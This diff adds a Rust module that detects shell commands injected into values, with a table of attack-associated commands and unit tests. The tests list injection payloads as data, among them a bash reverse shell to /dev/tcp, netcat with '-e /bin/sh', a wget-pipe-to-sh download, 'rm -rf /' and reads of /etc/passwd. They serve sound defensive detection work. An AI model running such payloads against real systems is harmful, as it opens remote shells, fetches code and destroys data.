@@ -1,0 +1,642 @@
+//! Whether a value runs a command in a shell it was pasted into.
+//!
+//! Shell words are words: `cat`, `find`, `more`, `id`. So a command counts only where a
+//! shell would look for one, behind a separator or in a substitution, or at the start of
+//! the value; and a name that is also an English word, or a column's name, only with an
+//! argument of a shape that prose does not have.
+//!
+//! Reads decoded text, best the folded view, where `c''at` and `${IFS}` are undone.
+//!
+//! Sources: POSIX.1-2017, "Shell Grammar"; Microsoft, "cmd" and "`about_PowerShell_exe`".
+
+use std::ops::Range;
+
+/// How clear it is that a name is a command.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Clarity {
+    /// Nothing but a command is called so.
+    Clear,
+    /// A command that needs no argument, but also a word or a column's name.
+    Short,
+    /// An English word: counts with an argument only.
+    Word,
+}
+
+/// Commands that attacks run. Sorted.
+const COMMANDS: &[(&[u8], Clarity)] = {
+    use Clarity::{Clear, Short, Word};
+    &[
+        (b"arp", Clear),
+        (b"at", Word),
+        (b"awk", Clear),
+        (b"base64", Clear),
+        (b"bash", Clear),
+        (b"bitsadmin", Clear),
+        (b"busybox", Clear),
+        (b"cat", Word),
+        (b"certutil", Clear),
+        (b"chmod", Clear),
+        (b"chown", Clear),
+        (b"cmd", Word),
+        (b"cmd.exe", Clear),
+        (b"copy", Word),
+        (b"cp", Word),
+        (b"crontab", Clear),
+        (b"csh", Clear),
+        (b"curl", Clear),
+        (b"cut", Word),
+        (b"dash", Word),
+        (b"date", Word),
+        (b"dd", Word),
+        (b"del", Word),
+        (b"df", Short),
+        (b"dig", Word),
+        (b"dir", Short),
+        (b"echo", Word),
+        (b"egrep", Clear),
+        (b"env", Short),
+        (b"expr", Word),
+        (b"fgrep", Clear),
+        (b"find", Word),
+        (b"ftp", Word),
+        (b"gcc", Clear),
+        (b"grep", Clear),
+        (b"head", Word),
+        (b"host", Word),
+        (b"hostname", Short),
+        (b"id", Short),
+        (b"ifconfig", Clear),
+        (b"ip", Word),
+        (b"ipconfig", Clear),
+        (b"kill", Word),
+        (b"ksh", Clear),
+        (b"less", Word),
+        (b"ln", Word),
+        (b"ls", Short),
+        (b"lua", Word),
+        (b"mkdir", Clear),
+        (b"mkfifo", Clear),
+        (b"more", Word),
+        (b"mshta", Clear),
+        (b"msiexec", Clear),
+        (b"mv", Word),
+        (b"mysql", Word),
+        (b"nc", Word),
+        (b"nc.exe", Clear),
+        (b"ncat", Clear),
+        (b"net", Word),
+        (b"netcat", Clear),
+        (b"netsh", Clear),
+        (b"netstat", Clear),
+        (b"nl", Word),
+        (b"node", Word),
+        (b"nohup", Clear),
+        (b"nslookup", Clear),
+        (b"od", Word),
+        (b"openssl", Word),
+        (b"passwd", Word),
+        (b"perl", Word),
+        (b"php", Word),
+        (b"ping", Word),
+        (b"powershell", Clear),
+        (b"powershell.exe", Clear),
+        (b"print", Word),
+        (b"printenv", Clear),
+        (b"printf", Word),
+        (b"ps", Short),
+        (b"pwd", Short),
+        (b"pwsh", Clear),
+        (b"python", Word),
+        (b"python2", Clear),
+        (b"python3", Clear),
+        (b"reboot", Short),
+        (b"reg", Word),
+        (b"regsvr32", Clear),
+        (b"rev", Word),
+        (b"rm", Word),
+        (b"rmdir", Clear),
+        (b"ruby", Word),
+        (b"rundll32", Clear),
+        (b"sc", Word),
+        (b"schtasks", Clear),
+        (b"sed", Clear),
+        (b"set", Word),
+        (b"sh", Short),
+        (b"shutdown", Short),
+        (b"sleep", Word),
+        (b"socat", Clear),
+        (b"sort", Word),
+        (b"ssh", Word),
+        (b"start", Word),
+        (b"strings", Word),
+        (b"su", Word),
+        (b"sudo", Clear),
+        (b"systemctl", Clear),
+        (b"systeminfo", Clear),
+        (b"tac", Word),
+        (b"tail", Word),
+        (b"tar", Word),
+        (b"tasklist", Clear),
+        (b"tcsh", Clear),
+        (b"tee", Word),
+        (b"telnet", Word),
+        (b"test", Word),
+        (b"tftp", Clear),
+        (b"timeout", Word),
+        (b"touch", Word),
+        (b"traceroute", Clear),
+        (b"tracert", Clear),
+        (b"type", Word),
+        (b"uname", Clear),
+        (b"uniq", Word),
+        (b"useradd", Clear),
+        (b"vi", Word),
+        (b"vim", Word),
+        (b"wc", Word),
+        (b"wget", Clear),
+        (b"where", Word),
+        (b"which", Word),
+        (b"who", Word),
+        (b"whoami", Clear),
+        (b"whoami.exe", Clear),
+        (b"wmic", Clear),
+        (b"xargs", Clear),
+        (b"xxd", Clear),
+        (b"zsh", Clear),
+    ]
+};
+
+/// What may stand before a command and run it.
+const PREFIXES: &[&[u8]] = &[b"exec", b"sudo", b"nohup", b"time", b"command", b"do", b"then", b"!"];
+
+/// The first part that reads as a command.
+pub(super) fn find(text: &[u8]) -> Option<Range<usize>> {
+    if let Some(end) = command(text, 0, Before::Start) {
+        return Some(0..end);
+    }
+    let mut at = 0;
+    while let Some(&byte) = text.get(at) {
+        let length = match separator(&text[at..], byte) {
+            Some((before, length)) => {
+                let before = if joins_names(text, at, before) { Before::Names } else { before };
+                if let Some(end) = command(text, at + length, before) {
+                    return Some(at..end);
+                }
+                length
+            }
+            None if byte == b'/' => {
+                if let Some(end) = device(text, at) {
+                    return Some(at..end);
+                }
+                1
+            }
+            None if byte == b'$' && is_field_separator(&text[at..]) => {
+                return Some(at..at + b"$ifs".len());
+            }
+            None => 1,
+        };
+        at += length;
+    }
+    None
+}
+
+/// Commands behind separators, or whole command lines.
+pub(super) fn may_be_in(text: &[u8]) -> bool {
+    let separated = text.iter().any(|byte| {
+        byte.is_ascii_whitespace()
+            || matches!(byte, b';' | b'|' | b'&' | b'$' | b'`' | b'<' | b'>' | b'\\' | b'?' | b'*')
+    });
+    // What is left is one word: a path to a command, a device, or a command by itself.
+    separated
+        || (text.first() == Some(&b'/') && holds(text, b"bin/"))
+        || holds(text, b"/dev/")
+        || (text.len() <= LONGEST_NAME && is_reconnaissance(&text.to_ascii_lowercase()))
+}
+
+/// The longest name that is a command line by itself.
+const LONGEST_NAME: usize = 12;
+
+/// Whether the part is in the text, in letters of any case.
+fn holds(text: &[u8], part: &[u8]) -> bool {
+    text.windows(part.len()).any(|window| window.eq_ignore_ascii_case(part))
+}
+
+/// What stands before the place where a command may be.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Before {
+    /// Nothing: the value starts.
+    Start,
+    /// `;`, `|` or `&` behind a name: as well a list of names.
+    Names,
+    /// A separator that lists do not have.
+    Separator,
+    /// `` ` `` or `$(`.
+    Substitution,
+}
+
+fn separator(rest: &[u8], byte: u8) -> Option<(Before, usize)> {
+    match byte {
+        b'|' | b'&' if rest.get(1) == Some(&byte) => Some((Before::Separator, 2)),
+        b';' | b'|' | b'&' | b'\n' | b'\r' => Some((Before::Separator, 1)),
+        b'`' => Some((Before::Substitution, 1)),
+        b'$' if rest.get(1) == Some(&b'(') && rest.get(2) != Some(&b'(') => {
+            Some((Before::Substitution, 2))
+        }
+        b'<' | b'>' if rest.get(1) == Some(&b'(') => Some((Before::Substitution, 2)),
+        _ => None,
+    }
+}
+
+/// `name;id;price` and `a|id`: single separators directly behind a letter.
+fn joins_names(text: &[u8], at: usize, before: Before) -> bool {
+    before == Before::Separator
+        && matches!(text[at], b';' | b'|' | b'&')
+        && text.get(at + 1) != Some(&text[at])
+        && at.checked_sub(1).is_some_and(|before| text[before].is_ascii_alphabetic())
+}
+
+/// Whether a command stands at `at`; where it ends.
+fn command(text: &[u8], mut at: usize, before: Before) -> Option<usize> {
+    for _ in 0..3 {
+        at += text[at..]
+            .iter()
+            .take_while(|byte| matches!(byte, b' ' | b'\t' | b'(' | b'{' | b'\'' | b'"' | b'@'))
+            .count();
+        let word_end = at + word_length(&text[at..]);
+        if !PREFIXES.contains(&&text[at..word_end]) {
+            break;
+        }
+        at = word_end;
+    }
+    let length = word_length(&text[at..]);
+    let word = &text[at..at + length];
+    let rest = &text[at + length..];
+    if length == 0 || !is_boundary(rest) {
+        return None;
+    }
+    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or(word);
+    if name.len() < word.len() {
+        // With its directory a command needs no argument, and a pattern no name.
+        let runs = is_bin(word) && (lookup(name).is_some() || before != Before::Start);
+        return (runs || is_globbed(word)).then_some(at + length);
+    }
+    let clarity = lookup(name)?;
+    let argument = has_argument(name, rest);
+    let ends = ends_here(rest);
+    let runs = match (before, clarity) {
+        (Before::Start, Clarity::Clear) => argument || (ends && is_reconnaissance(name)),
+        (Before::Start, Clarity::Short | Clarity::Word) | (_, Clarity::Word) => argument,
+        (Before::Names, Clarity::Short) => {
+            argument || (ends && matches!(name, b"ls" | b"dir" | b"pwd"))
+        }
+        // People curl up, too.
+        (Before::Separator | Before::Substitution, Clarity::Clear) => {
+            argument || ends || name != b"curl"
+        }
+        (Before::Separator | Before::Substitution, Clarity::Short)
+        | (Before::Names, Clarity::Clear) => argument || ends,
+    };
+    runs.then_some(at + length)
+}
+
+/// A word of a command line: a name or a path.
+fn word_length(rest: &[u8]) -> usize {
+    rest.iter()
+        .take_while(|byte| {
+            byte.is_ascii_alphanumeric()
+                || matches!(
+                    byte,
+                    b'_' | b'-' | b'.' | b'/' | b'\\' | b'?' | b'*' | b'!' | b'[' | b']'
+                )
+                || (**byte == b':' && rest.get(1) == Some(&b':'))
+        })
+        .count()
+}
+
+fn is_boundary(rest: &[u8]) -> bool {
+    rest.first().is_none_or(|byte| {
+        byte.is_ascii_whitespace()
+            || matches!(
+                byte,
+                b';' | b'|'
+                    | b'&'
+                    | b')'
+                    | b'}'
+                    | b'`'
+                    | b'<'
+                    | b'>'
+                    | b'$'
+                    | b'\''
+                    | b'"'
+                    | b'#'
+                    | b'%'
+                    | b'{'
+                    | b','
+            )
+    })
+}
+
+/// Whether the command stands without arguments.
+fn ends_here(rest: &[u8]) -> bool {
+    match rest.trim_ascii_start().first() {
+        None | Some(b';' | b'|' | b'&' | b')' | b'`' | b'#' | b'<' | b'>') => true,
+        // A quote closes what the server opened; `%` is a placeholder left behind.
+        Some(b'\'' | b'"') => rest.trim_ascii().len() <= 2,
+        _ => false,
+    }
+}
+
+/// Commands whose output is all an attacker wants.
+fn is_reconnaissance(name: &[u8]) -> bool {
+    matches!(
+        name,
+        b"whoami"
+            | b"whoami.exe"
+            | b"ifconfig"
+            | b"ipconfig"
+            | b"netstat"
+            | b"uname"
+            | b"systeminfo"
+            | b"tasklist"
+            | b"printenv"
+    )
+}
+
+fn lookup(name: &[u8]) -> Option<Clarity> {
+    let place = COMMANDS.binary_search_by(|(known, _)| (*known).cmp(name)).ok()?;
+    Some(COMMANDS[place].1)
+}
+
+/// `/bin/…`, `/usr/local/bin/…`, `c:\windows\system32\…`.
+fn is_bin(path: &[u8]) -> bool {
+    let starts = |start: &[u8]| path.starts_with(start);
+    let unix = starts(b"/bin/")
+        || starts(b"/sbin/")
+        || starts(b"/usr/bin/")
+        || starts(b"/usr/sbin/")
+        || starts(b"/usr/local/bin/")
+        || starts(b"/opt/bin/");
+    unix || memchr::memmem::find(path, b"system32").is_some()
+}
+
+/// `/???/??t`: a path so full of patterns that only a shell can read it.
+fn is_globbed(path: &[u8]) -> bool {
+    let patterns = path.iter().filter(|byte| matches!(byte, b'?' | b'*')).count();
+    let first_segment = path.get(1..).and_then(|path| path.split(|byte| *byte == b'/').next());
+    path.starts_with(b"/")
+        && patterns >= 2
+        && first_segment.is_some_and(|name| {
+            name.len() == 3
+                && name.iter().zip(b"bin").all(|(byte, plain)| byte == plain || *byte == b'?')
+        })
+}
+
+/// Whether an argument follows that prose does not have: an option, a path, an address, a
+/// variable, a redirection. Where a name is a word, more is asked of it.
+fn has_argument(name: &[u8], rest: &[u8]) -> bool {
+    let trimmed = rest.trim_ascii_start();
+    let Some(&first) = trimmed.first() else { return false };
+    if trimmed.len() == rest.len() {
+        // Directly behind: `cat</etc/passwd`, `ls${ifs}-la`, `{cat,/etc/passwd}`.
+        return match first {
+            b'<' | b'$' => true,
+            b',' => matches!(rest.get(1), Some(b'/' | b'-')),
+            _ => false,
+        };
+    }
+    let word_end = trimmed.iter().position(|byte| {
+        byte.is_ascii_whitespace() || matches!(byte, b';' | b'|' | b'&' | b')' | b'`')
+    });
+    let word = &trimmed[..word_end.unwrap_or(trimmed.len())];
+    let second = word.get(1).copied();
+    let number = !word.is_empty() && word.iter().all(u8::is_ascii_digit);
+    let is_address = word.split(|byte| *byte == b'.').count() >= 2
+        && word.last().is_some_and(u8::is_ascii_alphanumeric)
+        && word.len() >= 4;
+    let path = match first {
+        b'/' | b'\\' | b'~' | b'$' | b'<' | b'>' => true,
+        b'.' => matches!(second, Some(b'/' | b'.' | b'\\')),
+        b'*' => word.len() == 1,
+        b'%' => word.len() > 2,
+        _ => word.get(1..3) == Some(b":\\") || word.contains(&b'/'),
+    };
+    let option =
+        first == b'-' && second.is_some_and(|byte| byte.is_ascii_alphabetic() || byte == b'-');
+    match name {
+        b"sleep" | b"timeout" => (number && ends_here(&trimmed[word.len()..])) || path,
+        b"kill" => option || (first == b'-' && number),
+        b"ping" | b"dig" | b"host" | b"nslookup" | b"telnet" | b"ssh" | b"ftp" | b"nc"
+        | b"ncat" | b"netcat" | b"curl" | b"wget" | b"tracert" | b"traceroute" => {
+            option || path || is_address
+        }
+        b"cmd" | b"cmd.exe" => {
+            first == b'/' && second.is_some_and(|byte| byte.is_ascii_alphabetic())
+        }
+        b"net" => matches!(
+            word,
+            b"user" | b"users" | b"localgroup" | b"view" | b"share" | b"group" | b"use" | b"start"
+        ),
+        b"echo" | b"print" | b"printf" => {
+            path || option
+                || memchr::memchr3(b'>', b'|', b'`', trimmed).is_some()
+                || matches!(first, b'"' | b'\'')
+                || (number && ends_here(&trimmed[word.len()..]))
+        }
+        b"cat" | b"tac" | b"nl" | b"head" | b"tail" | b"more" | b"less" | b"type" | b"strings" => {
+            path || (option && trimmed.contains(&b'/')) || is_address
+        }
+        b"chmod" => number || option || first == b'+' || word.contains(&b'+'),
+        b"set" => first == b'/',
+        b"powershell" | b"powershell.exe" | b"pwsh" => true,
+        b"python" | b"python2" | b"python3" | b"perl" | b"ruby" | b"php" | b"node" | b"lua" => {
+            option || path
+        }
+        _ => option || path,
+    }
+}
+
+/// `/dev/tcp/…`, which only a reverse shell opens, and `>& /dev/…`.
+fn device(text: &[u8], at: usize) -> Option<usize> {
+    let starts = |start: &[u8]| text[at..].starts_with(start).then(|| at + start.len());
+    starts(b"/dev/tcp/").or_else(|| starts(b"/dev/udp/"))
+}
+
+/// `$ifs` and `${ifs}` stand for white space where a filter would see it.
+fn is_field_separator(rest: &[u8]) -> bool {
+    let name = rest.strip_prefix(b"${").or_else(|| rest.strip_prefix(b"$")).unwrap_or(rest);
+    name.strip_prefix(b"ifs").is_some_and(|behind| {
+        behind.first().is_none_or(|byte| !(byte.is_ascii_alphanumeric() || *byte == b'_'))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(expected: bool, texts: &[&str]) {
+        for text in texts {
+            let found = find(text.as_bytes());
+            let part = found.clone().map(|range| &text[range]);
+            assert_eq!(found.is_some(), expected, "{text} ({part:?})");
+            if expected {
+                assert!(may_be_in(text.as_bytes()), "{text}");
+            }
+        }
+    }
+
+    #[test]
+    fn commands_behind_separators_are_found() {
+        check(
+            true,
+            &[
+                ";id",
+                "127.0.0.1;id",
+                "127.0.0.1 && whoami",
+                "x||whoami",
+                "a | cat /etc/passwd",
+                "a;cat /etc/passwd",
+                "a;ls",
+                "a;ls -la",
+                "1&dir",
+                "1 & ping -n 10 127.0.0.1 &",
+                "1\nwhoami",
+                ";sleep 5",
+                "|sleep 5;",
+                "';cat /etc/passwd'",
+                "; /bin/cat /etc/hosts",
+                "; /usr/bin/id",
+                ";nslookup x.example",
+                ";curl http://x.example/a",
+                ";wget x.example/a -o- |sh",
+                "| net user",
+                "; exec cat /etc/passwd",
+                ";cat</etc/passwd",
+                ";{cat,/etc/passwd}",
+                ";/???/??t /???/p??s??",
+                "a';whoami;'",
+                "; echo x > /tmp/y",
+                "%0a;uname -a",
+                "& set /a 1+1",
+                "; python -c 'import os'",
+                "; rm -rf /",
+                "1 && netsh firewall show",
+                "||echo 79221",
+                "x; nc -e /bin/sh 192.0.2.1 4444",
+            ],
+        );
+    }
+
+    #[test]
+    fn substitutions_are_found() {
+        check(
+            true,
+            &[
+                "$(whoami)",
+                "`id`",
+                "a$(cat /etc/passwd)b",
+                "a`sleep 5`",
+                "$(curl x.example)",
+                "<(cat /etc/passwd)",
+                "cat${ifs}/etc/passwd",
+                "$ifs",
+            ],
+        );
+    }
+
+    #[test]
+    fn whole_command_lines_are_found() {
+        check(
+            true,
+            &[
+                "cat /etc/passwd",
+                "/bin/bash -c 'id'",
+                "/bin/sh",
+                "/usr/bin/id",
+                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+                "cmd.exe /c dir",
+                "cmd /c whoami",
+                "powershell -enc aaaa",
+                "c:\\windows\\system32\\cmd.exe /c dir",
+                "wget http://x.example/a",
+                "curl -o /tmp/a http://x.example",
+                "ping -c 10 127.0.0.1",
+                "ls -la",
+                "rm -rf /tmp/x",
+                "uname -a",
+                "whoami",
+                "type c:\\boot.ini",
+                "net user",
+                "php -r 'x'",
+                "find / -name x",
+                "nc 192.0.2.1 4444",
+            ],
+        );
+    }
+
+    #[test]
+    fn prose_and_data_are_left_alone() {
+        check(
+            false,
+            &[
+                "cats; dogs",
+                "salt | pepper",
+                "id=5",
+                "name;id;price",
+                "name|id|email",
+                "sort=name;id",
+                "cat food",
+                "find my phone",
+                "eat; sleep; repeat",
+                "read more; find out",
+                "red & blue",
+                "AT&T",
+                "q&a",
+                "R&D; test",
+                "time; date",
+                "type; sort",
+                "less than 5",
+                "more; less",
+                "curl/7.68.0",
+                "python-requests/2.31",
+                "wget/1.20",
+                "Mozilla/5.0 (X11; Linux x86_64; rv:1)",
+                "text/html; charset=utf-8",
+                "multipart/form-data; boundary=x",
+                "a $(b) c",
+                "costs $(5)",
+                "`quoted` word",
+                "cat",
+                "id",
+                "host",
+                "set of two",
+                "kill bill",
+                "sleep 10 hours a day",
+                "who is who; which is which",
+                "the bash is on; the ping is off",
+                "/docs/bin/readme",
+                "price > 5 | size < 3",
+                "less; more & more",
+                "echo chamber",
+                "sit down; curl up; read",
+                "echo 5 times",
+                "a;b;c",
+                "ruby; perl; python; php",
+                "printf and echo",
+                "",
+            ],
+        );
+    }
+
+    #[test]
+    fn the_table_is_sorted_for_the_search() {
+        assert!(COMMANDS.is_sorted_by_key(|(name, _)| *name));
+    }
+
+    #[test]
+    fn the_cost_stays_linear() {
+        for piece in [";", "`", "$(", "exec ", "/", ";cat ", "; ", "((", "\\"] {
+            find(piece.repeat(20_000 / piece.len()).as_bytes());
+        }
+    }
+}
